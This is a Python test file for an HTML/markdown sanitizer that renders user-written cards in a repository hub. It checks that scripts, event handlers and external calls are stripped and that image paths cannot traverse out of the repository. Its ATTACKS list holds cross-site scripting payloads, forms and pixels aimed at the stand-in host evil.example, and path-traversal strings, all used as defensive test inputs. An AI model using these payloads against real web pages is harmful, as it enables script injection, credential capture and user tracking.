"""Cards are strangers' text: nothing in them may run, watch, or leave the page's own box."""

import re
from html.parser import HTMLParser

import pytest

from hub.services.parsing import card_pages
from hub.services.parsing.card_child import ATTRIBUTES, PLACE, TAGS
from hub.services.parsing.card_child import to_html as rendered

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](data:image/svg+xml,<svg/onload=alert(1)>"onerror="alert(1))',
    '![a"onerror="alert(1)](picture.png)',
    '![x](a.png"onerror="alert(1))',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class='site-header' id='main'>x</div>",
    "<p hx-get='/tokens' hx-trigger=load>x</p>",
    "<button data-text='rm -rf'>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    '```js"onload=alert(1)\nx\n```',
    "<code class='language-x evil'>x</code>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='\\\\evil.example/pixel.png'>",
    "![p](https://evil.example/pixel.png)",
    "<img srcset='https://evil.example/a.png 1x' src=a.png>",
]
ADDRESSES = re.compile(r"(https?:|mailto:|/lab/|#)")


class Reader(HTMLParser):
    """What a browser would see: tags with attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def to_html(text: str, place: str = "/lab/sentiment/raw/abc/") -> str:
    """A card as a page of the repository shows it."""
    return rendered(text, most_cells=100).replace(PLACE, place)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_or_calls_out(text):
    html = to_html(text)
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, f"{name} on {tag}"
            if name == "src":
                assert value.startswith("/lab/sentiment/raw/")
            if name == "href":
                assert ADDRESSES.match(value), value
            if name == "class":
                assert re.fullmatch(r"language-[\w+#-]+", value)


def test_what_is_useful_stays():
    html = to_html(
        "# A\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n```python\nx = '<b>'\n```\n\n"
        "<details><summary>s</summary>d</details>"
    )
    assert "<h1>A</h1>" in html
    assert "<td>1</td>" in html
    assert "<s>2</s>" in html
    assert "<code class=\"language-python\">x = '&lt;b&gt;'" in html
    assert "<summary>s</summary>" in html


def test_pictures_and_links_of_the_repository_lead_into_it():
    html = to_html("![plot](img/a b.png)\n\n![p](<img/plot.png>) [notes](docs/notes.md) [top](#top)")
    assert 'src="/lab/sentiment/raw/abc/img/plot.png"' in html
    assert 'href="/lab/sentiment/raw/abc/docs/notes.md"' in html
    assert 'href="#top"' in html


@pytest.mark.parametrize(
    "path", ["../../jobs/1/cancel", "/sign-out", "..%2f..", "a/../../b", "..%5c..%5cx", "%2fsign-out", "//[x"]
)
def test_a_picture_can_not_leave_the_repository(path):
    tags = Reader(to_html(f"![x]({path})<img src='{path}'>", "/in/")).tags
    assert all(attributes.get("src", "/in/").startswith("/in/") for tag, attributes in tags if tag == "img")
    assert not any("/../" in attributes.get("src", "") for _, attributes in tags)


def test_pictures_from_elsewhere_become_links():
    html = to_html("![a chart](https://example.org/c.png)")
    assert "<img" not in html
    assert '<a href="https://example.org/c.png" rel="nofollow noopener ugc">a chart</a>' in html


def test_a_path_is_quoted_once():
    assert 'src="/lab/sentiment/raw/abc/a%20b/%C3%A9.png"' in to_html("![x](<a b/é.png>)")
    assert 'src="/lab/sentiment/raw/abc/a%20b.png"' in to_html("![x](a%20b.png)")


def test_tables_end_where_the_cells_do():
    table = "|a|b|\n|-|-|\n|1|2|\n\n"
    assert to_html(table).count("<td>") == 2
    # Each table has 3 lines and, counted by its pipes, 4 columns.
    assert rendered(table * 3, most_cells=36).count("<table>") == 3
    assert rendered(table * 3, most_cells=35).count("<table>") == 2
    assert "<p>|a|b|" in rendered(table * 3, most_cells=35)


def test_the_page_and_the_renderer_agree_on_the_place():
    assert card_pages.PLACE == PLACE
